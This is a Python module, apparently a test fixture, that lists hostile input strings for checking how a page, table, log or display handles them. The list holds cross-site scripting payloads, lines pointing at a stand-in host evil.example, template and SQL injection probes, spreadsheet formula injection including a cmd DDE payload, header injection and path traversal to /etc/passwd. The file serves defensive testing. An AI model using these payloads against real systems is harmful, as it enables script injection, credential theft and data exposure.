"""Texts people could write to break a page, a table, a log or a reader's eyes. Every door and every page meets them."""

ZERO_WIDTH_JOINER = "\u200d"

HOSTILE_TEXTS: tuple[str, ...] = (
    # Elements and attributes
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/a.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>press</a>",
    "<form action=//evil.example><input name=password></form>",
    "<style>body{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<!--",
    "--><b>out</b>",
    "<![CDATA[<b>out</b>]]>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title></head><body onload=alert(1)>",
    "</style><b>out</b>",
    "</p></div></main><h1>Not the council</h1>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus='",
    "`onerror=alert(1)`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62; &amp;quot; &quot;",
    "javascript:alert(document.cookie)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    # Templates, formats, Markdown
    "{{ 7 * 7 }} {{ config }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "{# remark #}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "{0} {name} {words.text} {",
    "%s %d %(name)s %n %",
    "[press](javascript:alert(1)) ![picture](http://evil.example/a.png)",
    "# Heading\n\n* list\n\n```\ncode\n```\n> quote",
    ":red[not the council] :material/warning: :streamlit: $\\LaTeX$",
    # Tables
    "=1+1",
    '=HYPERLINK("http://evil.example","press")',
    "+7 lamps",
    "-3 lamps",
    "@SUM(A1:A9)",
    "  =cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\u200b=1+1",
    "\uff1d1+1",
    'a,b;c\td"e"\nsecond line',
    # Scripts, queries, headers, paths
    '{"state": "done"}, "}]}\';alert(1);//',
    "\\u003cscript\\u003e \\x3cb\\x3e \\\\",
    "line\u2028separator\u2029paragraph",
    "'; DROP TABLE requests; --",
    "1 OR 1=1 UNION SELECT login, password FROM accounts",
    "one\r\nSet-Cookie: session=stolen\r\n\r\n<b>body</b>",
    "../../../etc/passwd",
    "\x00NUL at the start",
    "in the \x00 middle \x1b[31m \x07 \x7f",
    # What the eye sees
    "\u202egnorw yaw eht\u202c \u2066isolated",
    "\u2067right to left",
    "zero\u200bwidth\u200c\ufeffspaces\u2060",
    "combining " + "Z" + "\u0300\u0301\u0302\u0303" * 12,
    "W" * 400,
    "ұзынсөз" * 40,
    "\U0001f469"
    + ZERO_WIDTH_JOINER
    + "\U0001f469"
    + ZERO_WIDTH_JOINER
    + "\U0001f467 \U0001f1f0\U0001f1ff \U0001f44d\U0001f3fd",
    "\u0661\u0662\u0663 \u2460 \u00bd \ufdfd",
    "   ",
)


def as_read(text: str) -> str:
    """A text as a reader of a page meets it: without its white space, which pages fold, and without NUL.

    HTML has no NUL and no lone carriage return, so these two signs cannot survive a page.
    """
    return "".join(text.replace("\x00", "\ufffd").split())
